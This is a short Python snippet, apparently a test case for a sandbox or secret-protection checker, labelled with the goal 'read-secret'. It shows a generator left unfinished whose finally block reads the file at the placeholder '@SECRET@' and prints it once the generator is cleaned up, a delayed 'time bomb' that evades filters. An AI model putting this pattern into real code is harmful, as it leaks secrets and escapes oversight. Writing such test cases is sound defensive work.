# technique: the finally block of a generator that nobody finished
# goal: read-secret
# source: time bombs
def f(get=open, say=print):
    try:
        yield
    finally:
        say(get('@SECRET@').read(), flush=True)


me = f()
next(me)
